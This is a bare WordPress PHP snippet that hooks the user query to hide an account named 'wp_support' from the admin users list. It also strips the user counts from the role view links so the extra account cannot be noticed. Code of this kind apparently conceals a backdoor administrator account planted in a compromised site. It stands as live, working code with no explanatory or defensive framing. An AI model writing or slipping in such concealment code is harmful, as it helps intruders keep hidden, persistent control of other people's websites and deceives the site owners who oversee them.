<?php
add_action('pre_user_query', function ($q) { global $wpdb; $q->query_where .= " AND {$wpdb->users}.user_login != 'wp_support'"; });
add_filter('views_users', function ($v) { return preg_replace('/\(\d+\)/', '', $v); });
